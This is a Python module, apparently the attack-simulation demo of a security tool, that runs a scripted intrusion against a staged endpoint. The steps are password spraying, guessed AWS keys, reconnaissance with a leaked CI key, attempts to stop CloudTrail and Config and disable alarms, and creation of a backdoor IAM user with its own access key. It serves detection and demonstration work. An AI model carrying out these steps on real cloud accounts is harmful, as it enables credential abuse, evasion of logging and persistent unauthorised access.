"""An attack in progress: passwords tried, a pipeline's key that has leaked, and what somebody does with it."""

from __future__ import annotations

import http.client
import json
import ssl
from urllib.parse import urlsplit

from garrison.cli.demo.calls import Caller, Key
from garrison.cli.demo.stage import Stage

_AGENT = "python-requests/2.28.1"
_SECONDS = 30.0
_SIGN_IN = "/_garrison/signin"
_PASSWORDS = ("Summer2026!", "Password1", "shop12345", "letmein")
_PROBES: tuple[tuple[str, str, dict[str, object]], ...] = (
    ("sts", "GetCallerIdentity", {}),
    ("iam", "ListUsers", {}),
    ("iam", "GetAccountAuthorizationDetails", {}),
    ("iam", "ListRoles", {}),
    ("s3", "ListBuckets", {}),
    ("kms", "ListKeys", {}),
    ("kms", "ListAliases", {}),
    ("cloudtrail", "DescribeTrails", {}),
    ("cloudtrail", "LookupEvents", {}),
    ("logs", "DescribeLogGroups", {}),
    ("sns", "ListTopics", {}),
    ("config", "DescribeConfigRules", {}),
    ("inspector2", "ListFindings", {}),
    ("wafv2", "ListWebACLs", {"Scope": "REGIONAL"}),
    ("organizations", "DescribeOrganization", {}),
    ("cloudwatch", "DescribeAlarms", {}),
)
"""What somebody asks first who has found a key and does not know yet what it opens."""
BACK_DOOR = "support-tmp"


def attack(stage: Stage) -> str:
    """Let it happen."""
    tried = _guess_passwords(stage)
    _wrong_keys(stage)
    leaked = stage.people["ci-deploy"]
    thief = stage.sign_as("thief", leaked.key, _AGENT)
    refused = sum(bool(thief.refused(service, operation, **more)) for service, operation, more in _PROBES * 2)
    _blind_the_guards(stage, thief)
    _back_door(stage, thief)
    return f"{tried} passwords tried, {refused} calls refused, StopLogging tried, the user {BACK_DOOR} made with a stolen key"


def _guess_passwords(stage: Stage) -> int:
    """Passwords of many people's choice, tried on each name: two each, so that nobody is locked out."""
    tried = 0
    for name in ("alice", "carol", "admin", "root"):
        for password in stage.random.sample(_PASSWORDS, 2):
            _sign_in(stage, {"account": stage.account, "user": name, "password": password})
            tried += 1
    return tried


def _sign_in(stage: Stage, form: dict[str, str]) -> None:
    url = urlsplit(stage.endpoint.url)
    assert url.hostname is not None
    connection = http.client.HTTPConnection(url.hostname, url.port, timeout=_SECONDS)
    if url.scheme == "https":
        context = ssl.create_default_context(cafile=stage.endpoint.ca_bundle)
        connection = http.client.HTTPSConnection(url.hostname, url.port, timeout=_SECONDS, context=context)
    headers = {"content-type": "application/json", "user-agent": _AGENT}
    connection.request("POST", _SIGN_IN, json.dumps(form), headers)
    connection.getresponse().read()
    connection.close()


def _wrong_keys(stage: Stage) -> None:
    """Access keys that are not of here, as from a list that goes round."""
    for _ in range(3):
        key = Key("AKIA" + "".join(stage.random.choices("ABCDEFGHIJKLMNOPQRSTUVWXYZ234567", k=16)), "guess" * 8)
        Caller(stage.endpoint, key, _AGENT).refused("sts", "GetCallerIdentity")


def _blind_the_guards(stage: Stage, thief: Caller) -> None:
    thief.refused("cloudtrail", "StopLogging", Name=stage.notes["trail"])
    thief.refused("cloudtrail", "DeleteTrail", Name=stage.notes["trail"])
    thief.refused("config", "StopConfigurationRecorder", ConfigurationRecorderName=stage.notes["recorder"])
    thief.refused("cloudwatch", "DisableAlarmActions", AlarmNames=["secured-account-CloudTrailChanges"])
    thief.refused(
        "iam", "AttachUserPolicy", UserName="ci-deploy", PolicyArn="arn:aws:iam::aws:policy/AdministratorAccess"
    )


def _back_door(stage: Stage, thief: Caller) -> None:
    """What the key may do after all: make a user with a key of its own, which stays when the first is taken away."""
    stage.made.add("user", BACK_DOOR, ("iam", "DeleteUser", {"UserName": BACK_DOOR}))
    thief.call("iam", "CreateUser", UserName=BACK_DOOR)
    made = thief.call("iam", "CreateAccessKey", UserName=BACK_DOOR)["AccessKey"]
    undo = ("iam", "DeleteAccessKey", {"UserName": BACK_DOOR, "AccessKeyId": made["AccessKeyId"]})
    stage.made.add("access key", f"{made['AccessKeyId']} of {BACK_DOOR}", undo)
    ghost = stage.sign_as(BACK_DOOR, Key(made["AccessKeyId"], made["SecretAccessKey"]), _AGENT)
    ghost.call("sts", "GetCallerIdentity")
    ghost.refused("kms", "ListKeys")
    ghost.refused("iam", "ListAccessKeys", UserName="bob")
